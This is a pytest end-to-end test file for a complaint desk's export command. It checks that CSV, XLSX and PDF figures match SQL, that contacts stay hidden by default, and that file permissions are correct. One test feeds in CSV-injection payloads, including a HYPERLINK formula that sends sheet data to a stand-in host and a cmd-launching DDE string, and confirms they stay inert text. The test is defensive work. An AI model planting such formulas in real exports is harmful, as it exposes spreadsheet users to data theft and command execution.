"""``posko export`` run as the operator runs it, on a real profile (SQLite in a temp dir):
the zipped CSVs read with ``csv``, the workbook with openpyxl, the PDF with poppler; the
figures of every format agree with each other and with plain SQL over the profile; no
reporter's name, phone or e-mail leaves the desk without ``--with-contacts``."""

from __future__ import annotations

import csv
import io
import subprocess
import zipfile
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from desktop.domain import ComplaintInput
from desktop.paths import Profile
from desktop.store.repo import Store
from posko.catalog import default_catalog
from posko.outreach import item
from posko.survey import skm_2017
from tests import rawdb
from tests.e2e.test_cli import posko
from tests.e2e.test_survey_cli import desk  # noqa: F401  (the fixture)
from tests.helpers import pdf_text, workbook

WIB = timezone(timedelta(hours=7))
CONTACTS = ("Dewi Lestari", "Budi Santoso", "Rina Wati", "dewi@contoh.id", "rina@contoh.id")
SECRET_TEXT = ("Pungli di loket", "Petugas meminta uang tambahan")
SUMMARY = "Summary"
PEOPLE, CATEGORY, AGENCY, STATUS, DEADLINES = (
    "People reached per day",
    "Complaints per category",
    "Complaints per agency",
    "Complaints per status",
    "Answer deadlines",
)
UNSENT = "Not at the central system yet"
SURVEY, MERCHANDISE = "Satisfaction survey (SKM)", "Merchandise"


def _complaint(store: Store, at: datetime, **values: object) -> None:
    fields: dict[str, object] = {
        "type": "pengaduan",
        "category": "PELABUHAN",
        "title": "Antrean kapal di dermaga 3",
        "description": "Antrean kendaraan ke kapal lebih dari 6 jam.",
    }
    fields.update(values)
    store.save_complaint(ComplaintInput(**fields), now=at)  # type: ignore[arg-type]


@pytest.fixture
def filled(desk: list[str], tmp_path: Path) -> list[str]:  # noqa: F811
    store = Store.open(Profile(Path(desk[1])))
    day = datetime(2026, 11, 30, 10, tzinfo=WIB)
    _complaint(store, day, reporter_name="Dewi Lestari", phone="0812-3456-7890",
               email="dewi@contoh.id")  # fmt: skip
    _complaint(store, day, category="TERMINAL", anonymous=True, reporter_name="Budi Santoso",
               phone="0813-1111-2222")  # fmt: skip
    _complaint(store, day + timedelta(days=1), category="TERMINAL", confidential=True,
               title="Pungli di loket", description="Petugas meminta uang tambahan.",
               reporter_name="Rina Wati", phone="0857-9999-0000",
               email="rina@contoh.id")  # fmt: skip
    _complaint(store, day + timedelta(days=3), category="AIR")  # after --to below
    store.record_people_reached(3, now=day)
    # 00:30 WIB on 1 December is still 30 November in UTC: counted on the post's day.
    store.record_people_reached(5, now=datetime(2026, 12, 1, 0, 30, tzinfo=WIB))
    store.record_stock_received("kaus", 10, now=day)
    store.record_handed_out("kaus", 2, now=day)
    store.close()
    sheet = tmp_path / "kuesioner.csv"
    sheet.write_text(
        "tanggal,layanan,U1,U2,U3,U4,U5,U6,U7,U8,U9\n"
        "2026-11-30,PELABUHAN,4,4,4,4,4,4,4,4,4\n"
        "2026-12-01,TERMINAL,3,3,3,3,3,3,3,3,3\n"
        "2026-12-01,TERMINAL,2,3,2,3,2,3,2,3,2\n",
        encoding="utf-8",
    )
    assert posko(*desk, "survey", "import", str(sheet)).returncode == 0
    return desk


def _export(profile: list[str], out: Path, kind: str, *options: str) -> Path:
    done = posko(*profile, "--lang", "en", "export", "--format", kind, "--out", str(out), *options)
    assert done.returncode == 0, done.stderr
    return out


def _sql_figures(database: Path, first: str, last: str) -> dict[str, dict[str, str]]:
    """The summary recomputed from the tables with plain SQL (UTC stored; WIB is +7)."""
    local = "date(created_at, '+7 hours')"
    within = f"{local} BETWEEN '{first}' AND '{last}'"
    with rawdb.connect(database) as conn:
        people = conn.execute(
            f"SELECT {local}, sum(count) FROM tally_events"
            f" WHERE counter = 'people_reached' AND {within} GROUP BY 1"
        ).fetchall()
        categories = conn.execute(
            f"SELECT category, count(*) FROM complaints WHERE {within} GROUP BY 1"
        ).fetchall()
        agencies = conn.execute(
            f"SELECT coalesce(central_agency, ''), count(*) FROM complaints WHERE {within}"
            " GROUP BY 1"
        ).fetchall()
        statuses = conn.execute(
            f"SELECT coalesce(central_status, '{UNSENT}'), count(*) FROM complaints"
            f" WHERE {within}"
            " GROUP BY 1"
        ).fetchall()
        elements = [
            conn.execute(
                f"SELECT avg(json_extract(answers, '$.U{n}')) FROM survey_responses WHERE {within}"
            ).fetchone()[0]
            for n in range(1, 10)
        ]
        respondents = conn.execute(
            f"SELECT count(*) FROM survey_responses WHERE {within}"
        ).fetchone()[0]
        handed = conn.execute(
            f"SELECT item, sum(count) FROM tally_events WHERE counter = 'merchandise'"
            f" AND {within} GROUP BY 1"
        ).fetchall()
        received = dict(conn.execute("SELECT item, sum(quantity) FROM stock_movements GROUP BY 1"))
        out = dict(
            conn.execute("SELECT item, sum(count) FROM tally_events WHERE item != '' GROUP BY 1")
        )
    ikm = sum(elements) / 9 * 25
    names = {c.code: c.name("en") for c in default_catalog().categories}
    survey = skm_2017()
    per_element = {
        f"U{n} {survey.element(f'U{n}').name('en')}": f"{value * 25:.2f}"
        for n, value in enumerate(elements, start=1)
    }
    return {
        PEOPLE: {day: str(n) for day, n in people},
        CATEGORY: {names[code]: str(n) for code, n in categories},
        AGENCY: {agency or "Not assigned yet": str(n) for agency, n in agencies},
        STATUS: {code: str(n) for code, n in statuses},
        SURVEY: {"Respondents": str(respondents), "IKM": f"{ikm:.2f}", **per_element},
        MERCHANDISE: {
            item(i).name("en"): f"{n} {received[i]} {received[i] - out[i]}" for i, n in handed
        },
    }


def _csv_figures(zipped: Path) -> dict[str, dict[str, str]]:
    with zipfile.ZipFile(zipped) as archive:
        text = archive.read("summary.csv").decode("utf-8")
    assert text.startswith("\ufeff")  # so Excel reads it as UTF-8
    figures: dict[str, dict[str, str]] = {}
    for section, key, *values in list(csv.reader(io.StringIO(text[1:])))[1:]:
        figures.setdefault(section, {})[key] = " ".join(v for v in values if v)
    return figures


def _xlsx_figures(book: Path) -> dict[str, dict[str, str]]:
    with workbook(book) as opened:
        return _summary_figures(opened[SUMMARY])


def _summary_figures(sheet: Any) -> dict[str, dict[str, str]]:
    figures: dict[str, dict[str, str]] = {}
    section = ""
    header = False
    for row in sheet.iter_rows():
        cells = [
            f"{c.value:.2f}" if c.number_format == "0.00" else str(c.value)
            for c in row
            if c.value is not None
        ]
        if len(cells) == 1:
            section, header = cells[0], True
        elif header:
            header = False
        elif cells:
            figures.setdefault(section, {})[cells[0]] = " ".join(cells[1:])
    return figures


def _chosen(figures: dict[str, dict[str, str]]) -> dict[str, dict[str, str]]:
    """The figures the SQL recomputes (the grade follows from the IKM)."""
    kept = {k: dict(v) for k, v in figures.items()}
    kept[SURVEY].pop("Grade")
    deadlines = kept.pop(DEADLINES)
    assert sum(int(n) for n in deadlines.values()) == sum(int(n) for n in kept[STATUS].values())
    return kept


def test_every_format_shows_the_same_figures_as_plain_sql(
    filled: list[str], tmp_path: Path
) -> None:
    days = ("--from", "2026-11-30", "--to", "2026-12-01")
    csvs = _csv_figures(_export(filled, tmp_path / "e.zip", "csv", *days))
    book = _xlsx_figures(_export(filled, tmp_path / "e.xlsx", "xlsx", *days))
    expected = _sql_figures(Profile(Path(filled[1])).database, "2026-11-30", "2026-12-01")
    assert _chosen(csvs) == expected == _chosen(book)
    assert csvs[PEOPLE] == {"2026-11-30": "3", "2026-12-01": "5"}
    assert csvs[CATEGORY] == {"Ports and ferries": "1", "Bus terminals": "2"}  # AIR is after --to
    assert {k: csvs[SURVEY][k] for k in ("Respondents", "IKM", "Grade")} == {
        "Respondents": "3",
        "IKM": "78.70",
        "Grade": "B",
    }
    assert csvs[MERCHANDISE] == {"T-shirt": "2 10 8"}
    lines = _pdf_lines(_export(filled, tmp_path / "e.pdf", "pdf", *days))
    assert "Period: 2026-11-30 to 2026-12-01" in lines
    for section, rows in csvs.items():
        assert section in lines
        for key, values in rows.items():
            assert f"{key} {values}" in lines


def _pdf_lines(pdf: Path) -> list[str]:
    """The PDF's lines as laid out (a table row is one line), spaces collapsed."""
    done = subprocess.run(["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return [" ".join(line.split()) for line in done.stdout.splitlines()]


def _bytes_of(path: Path) -> str:
    """What a reader of the file finds: the members of a zip (CSVs, a workbook's XML), or
    the text of a PDF."""
    if path.suffix == ".pdf":
        return pdf_text(path)
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode("utf-8") for n in archive.namelist())


def _phones(database: Path) -> list[str]:
    with rawdb.connect(database) as conn:
        found = [p for (p,) in conn.execute("SELECT phone FROM complaints WHERE phone != ''")]
    assert len(found) == 3
    return found


@pytest.mark.parametrize("kind", ["csv", "xlsx", "pdf"])
def test_contacts_and_rahasia_text_only_with_contacts(
    filled: list[str], tmp_path: Path, kind: str
) -> None:
    private = (*CONTACTS, *_phones(Profile(Path(filled[1])).database))
    shown = _bytes_of(_export(filled, tmp_path / f"public.{kind}", kind))
    for text in (*private, *SECRET_TEXT):
        assert text not in shown
    if kind == "pdf":
        return  # the PDF is the summary: no rows at all
    full = _bytes_of(_export(filled, tmp_path / f"staff.{kind}", kind, "--with-contacts"))
    for text in (*private, *SECRET_TEXT):
        assert text in full


def test_rows_of_each_table(filled: list[str], tmp_path: Path) -> None:
    zipped = _export(filled, tmp_path / "e.zip", "csv")
    with zipfile.ZipFile(zipped) as archive:
        read = {
            name: list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))
            for name in archive.namelist()
        }
    complaints = read["complaints.csv"]
    assert len(complaints) == 4 and "phone" not in complaints[0]
    rahasia = [c for c in complaints if c["confidential"] == "1"]
    assert [c["title"] for c in rahasia] == [""] and rahasia[0]["category"] == "TERMINAL"
    assert complaints[0]["created_at"] == "2026-11-30T10:00:00+07:00"
    assert len(read["survey_responses.csv"]) == 3
    assert [r["count"] for r in read["tally_events.csv"]] == ["3", "5", "2"]
    assert [r["quantity"] for r in read["stock_movements.csv"]] == ["10"]
    tables = ["complaints", "survey_responses", "tally_events", "stock_movements"]
    with workbook(_export(filled, tmp_path / "e.xlsx", "xlsx")) as book:
        assert book.sheetnames == [SUMMARY, *tables]
        assert len(list(book["complaints"].iter_rows())) == 5  # the header and 4 reports
    assert list(read) == [f"{name}.csv" for name in (*tables, "summary")]


def test_a_failed_write_leaves_no_file(filled: list[str], tmp_path: Path) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    refused = posko(*filled, "export", "--format", "csv", "--out", str(blocker / "e.zip"))
    assert refused.returncode == 1 and "Tidak dapat menulis" in refused.stderr
    target = tmp_path / "out"
    target.mkdir()  # a folder where the file should go: the rename over it fails
    before = sorted(tmp_path.iterdir())
    refused = posko(*filled, "export", "--format", "xlsx", "--out", str(target))
    assert refused.returncode == 1, refused.stderr
    assert sorted(tmp_path.iterdir()) == before and not any(target.iterdir())


def test_another_post_is_refused(filled: list[str], tmp_path: Path) -> None:
    other = posko(*filled, "export", "--format", "csv", "--out", str(tmp_path / "e.zip"),
                  "--post", "BKH")  # fmt: skip
    assert other.returncode == 2 and "MRK" in other.stderr
    assert not (tmp_path / "e.zip").exists()
    same = posko(*filled, "export", "--format", "csv", "--out", str(tmp_path / "e.zip"),
                 "--post", "mrk")  # fmt: skip
    assert same.returncode == 0, same.stderr


def test_a_formula_typed_into_a_report_stays_text_in_every_file(
    desk: list[str],  # noqa: F811 (the fixture)
    tmp_path: Path,
) -> None:
    """CSV injection: a citizen's text that a spreadsheet would run when the coordinator
    opens the export (a link that sends the sheet's data away, a command)."""
    attack = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")'
    store = Store.open(Profile(Path(desk[1])))
    _complaint(store, datetime(2026, 11, 30, 10, tzinfo=WIB), title="+cmd|' /C calc'!A0",
               description=attack, location="@SUM(1+1)", reporter_name="-2+3",
               phone="0812-3456-7890")  # fmt: skip
    store.close()
    zipped = _export(desk, tmp_path / "e.zip", "csv", "--with-contacts")
    with zipfile.ZipFile(zipped) as archive:
        (row,) = csv.DictReader(io.StringIO(archive.read("complaints.csv").decode("utf-8-sig")))
    assert row["description"] == "'" + attack
    assert row["title"].startswith("'+") and row["location"] == "'@SUM(1+1)"
    assert row["reporter_name"] == "'-2+3"
    assert row["phone"] == "'+6281234567890"  # E.164's "+" would start a formula too
    book = load_workbook(_export(desk, tmp_path / "e.xlsx", "xlsx", "--with-contacts"))
    cells = [c for line in book["complaints"].iter_rows(min_row=2) for c in line]
    texts = [c for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert texts and all(c.data_type == "s" for c in texts)  # kept as text, not a formula


def test_a_file_with_contacts_is_its_owners_alone(filled: list[str], tmp_path: Path) -> None:
    for kind in ("csv", "xlsx"):
        plain = _export(filled, tmp_path / f"plain.{kind}", kind)
        private = _export(filled, tmp_path / f"private.{kind}", kind, "--with-contacts")
        assert plain.stat().st_mode & 0o777 == 0o644, kind
        assert private.stat().st_mode & 0o777 == 0o600, kind
